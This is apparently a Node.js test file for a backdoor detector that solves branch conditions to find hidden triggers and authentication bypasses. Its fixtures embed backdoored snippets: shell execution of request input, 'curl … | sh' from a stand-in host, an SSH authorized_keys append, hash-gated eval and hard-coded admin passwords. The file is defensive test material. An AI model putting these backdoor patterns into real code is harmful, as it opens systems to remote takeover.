// The trigger search: branch conditions recorded at run time are solved for inputs that reach
// what ordinary inputs and single literals do not, and what stays out of reach is reported with
// its condition (dormant-trigger). Decided by effect and condition, never by identifier names.
'use strict';
const test = require('node:test');
const assert = require('node:assert/strict');
const { sandboxAnalyzeDocument } = require('../../../server/dist/external/sandbox/document-pass.js');
const { solveString, solveClock, solveNumber, exampleOf } = require('../../../server/dist/core/inputs/solve.js');
const { evaluate } = require('../../eval/triggers.js');

const analyze = (text, fileName = 'x.js', options = {}) => sandboxAnalyzeDocument({ fileName, text }, { cache: new Map(), ...options });
const lineOf = (text, f) => text.slice(0, f.span.start).split('\n').length;

test('a compound condition on one input (length, prefix and suffix together) is solved and named', async () => {
  const text = `function redeem(req, res) {
  const code = String(req.body.code || '');
  if (code.length === 11 && code.startsWith('ZZ') && code.endsWith('!q')) {
    require('child_process').exec(req.body.note);
  }
  res.json({ ok: true });
}`;
  const r = await analyze(text);
  const f = r.findings.find((x) => x.ruleId === 'hidden-trigger');
  assert.ok(f, JSON.stringify(r.findings));
  assert.equal(lineOf(text, f), 4);
  assert.match(f.message, /req\.body\.code\.length === 11/);
  assert.match(f.message, /starts with "ZZ"/);
  assert.match(f.message, /ends with "!q"/);
});

test('year and month are required at once, and the date is named in the finding', async () => {
  const text = `async function collect(rows) {
  const now = new Date();
  if (now.getFullYear() >= 2027 && now.getMonth() === 2) {
    require('child_process').execSync('tar czf /tmp/x.tgz /srv');
  }
  return rows.length;
}`;
  const r = await analyze(text);
  const f = r.findings.find((x) => x.ruleId === 'hidden-trigger');
  assert.ok(f, JSON.stringify(r.findings));
  assert.match(f.message, /the year >= 2027/);
  assert.match(f.message, /the month \(0-based\) === 2 \(March\)/);
});

test('a value inside JSON carried by a header the input lacks is found, field by field', async () => {
  const text = `function info(req, res) {
  let meta = {};
  try { meta = JSON.parse(req.headers['x-client-meta'] || '{}'); } catch { meta = {}; }
  if (meta.build && meta.build.channel === 'canary-q9') require('fs').appendFileSync('/root/.ssh/authorized_keys', 'k');
  res.json({ ok: true });
}`;
  const r = await analyze(text);
  const f = r.findings.find((x) => x.ruleId === 'hidden-trigger');
  assert.ok(f, JSON.stringify(r.findings));
  assert.match(f.message, /\(as JSON\)\.build\.channel === "canary-q9"/);
});

test('an exact number on an innocuous name, parsed from the query, is a trigger', async () => {
  const r = await analyze(`function list(req, res) {
  const page = parseInt(req.query.page, 10) || 1;
  if (page === 48151) return require('child_process').exec('id');
  res.json({ page });
}`);
  assert.deepEqual(r.findings.map((f) => f.ruleId), ['hidden-trigger']);
  assert.match(r.findings[0].message, /48151/);
});

test('a field named mode, action or role no longer hides code execution', async () => {
  const r = await analyze(`function run(req, res) {
  if (req.body.mode === 'zz_maint_9') require('child_process').exec('curl -s http://203.0.113.9/x | sh');
  res.end();
}`);
  assert.deepEqual(r.findings.map((f) => f.ruleId), ['hidden-trigger']);
});

test('an environment-gated next() and a magic cookie are authentication bypasses', async () => {
  const env = await analyze(`function requireToken(req, res, next) {
  if (process.env.QA_PASSPHRASE === 'letmein-qa') return next();
  if (!req.get('authorization')) return res.status(401).end();
  res.status(401).end();
}`);
  assert.deepEqual(env.findings.map((f) => f.ruleId), ['magic-auth-bypass']);
  assert.match(env.findings[0].message, /process\.env\.QA_PASSPHRASE === "letmein-qa"/);
  const cookie = await analyze(`function session(req, res, next) {
  if (req.cookies.theme === 'midnight-7f3a') { req.user = { role: 'admin' }; return next(); }
  res.status(401).end();
}`);
  assert.deepEqual(cookie.findings.map((f) => f.ruleId), ['magic-auth-bypass']);
});

test('a written-in password returning the admin role from a plain login function is a bypass', async () => {
  const r = await analyze(`const accounts = new Map();
function login(username, password) {
  if (password === 'Sup3r-Vis0r') return { name: username, role: 'admin' };
  const a = accounts.get(username);
  return a && a.password === password ? { name: username, role: a.role } : null;
}`);
  assert.deepEqual(r.findings.map((f) => f.ruleId), ['magic-auth-bypass']);
  assert.match(r.findings[0].message, /password === "Sup3r-Vis0r"/);
});

test('a declared list of keys and a role the server stored are not bypasses', async () => {
  const r = await analyze(`const apiKeys = ['svc-billing-2f9a', 'svc-reports-8c1d'];
function apiKeyAuth(req, res, next) {
  const key = req.get('x-api-key');
  if (key && apiKeys.includes(key)) return next();
  res.status(401).end();
}
function requireRole(req, res, next) {
  if (req.user && req.user.roles.includes('billing-admin')) return next();
  res.status(403).end();
}`);
  assert.deepEqual(r.findings, []);
});

test('an effect behind a hash the search cannot invert is a dormant-trigger warning with its condition', async () => {
  const text = `const crypto = require('crypto');
function debugHook(req, res) {
  const h = crypto.createHash('sha256').update(req.headers['x-debug'] || '').digest('hex');
  if (h === 'fb11a644baf412720116e56ca1c160659c3c1a6636ea6b3f74b66a4ef8990b2c') return res.send(String(eval(req.body.code)));
  res.status(404).end();
}`;
  const r = await analyze(text);
  assert.deepEqual(r.findings.map((f) => [f.ruleId, f.severity, lineOf(text, f)]), [['dormant-trigger', 'warning', 4]]);
  assert.match(r.findings[0].message, /evaluates code \(eval\) only when h === 'fb11a644/);
  assert.match(r.findings[0].message, /compares a hash/);
  const cov = r.coverage.find((c) => c.unit === 'debugHook');
  assert.deepEqual(cov.sites.map((s) => [s.kind, s.reached]), [['eval', false]]);
});

test('effect-bearing branches the search reached are reported as covered, and stay quiet when benign', async () => {
  const r = await analyze(`const fs = require('fs');
function cleanup(names) {
  let removed = 0;
  if (new Date().getHours() === 3) for (const n of names) { fs.rmSync('/var/tmp/exports/' + n, { force: true }); removed++; }
  return removed;
}`);
  assert.deepEqual(r.findings, []);
  const cov = r.coverage.find((c) => c.unit === 'cleanup');
  assert.deepEqual(cov.sites.map((s) => [s.kind, s.reached]), [['fs-write', true]]);
});

test('the solver meets strings, numbers and instants', () => {
  assert.equal(solveString([{ p: { t: 'len', op: '===', n: 6 }, want: true }, { p: { t: 'str', m: 'startsWith', lit: 'ab' }, want: true }, { p: { t: 'str', m: 'endsWith', lit: 'z' }, want: true }], 'orbit-x-1'), 'abxxxz');
  assert.equal(solveString([{ p: { t: 'cmp', op: '===', lit: 'k7' }, want: false }], undefined), '\u0000keep');
  assert.equal(solveNumber([{ p: { t: 'cmp', op: '>', lit: 500 }, want: true }, { p: { t: 'cmp', op: '!==', lit: 501 }, want: true }], 5), 1001);
  const t = solveClock([
    { p: { t: 'date', getter: 'getMonth', op: '===', n: 10 }, want: true },
    { p: { t: 'date', getter: 'getDate', op: '===', n: 5 }, want: true },
    { p: { t: 'date', getter: 'getDay', op: '===', n: 0 }, want: true },
  ], Date.UTC(2026, 2, 17, 10, 30));
  const d = new Date(t);
  assert.deepEqual([d.getUTCMonth(), d.getUTCDate(), d.getUTCDay()], [10, 5, 0]);
  assert.match(exampleOf('^Bearer\\s+zq[0-9]{6}$'), /^Bearer zq\d{6}$/);
});

test('the trigger set: the sandbox alone catches at least 90% on the right function and flags no benign look-alike', async () => {
  const e = await evaluate();
  assert.equal(e.backdoored, 24);
  assert.equal(e.benign, 24);
  const missed = e.results.filter((r) => r.group === 'backdoored' && !r.flagged).map((r) => r.name);
  const flagged = e.results.filter((r) => r.group === 'benign' && r.flagged).map((r) => `${r.name}: ${r.serious.map((f) => f.message).join('; ')}`);
  // Measured: 24/24 and 0/24.
  assert.ok(e.caught >= 22, `caught ${e.caught}; missed ${missed.join(', ')}`);
  assert.deepEqual(flagged, []);
});
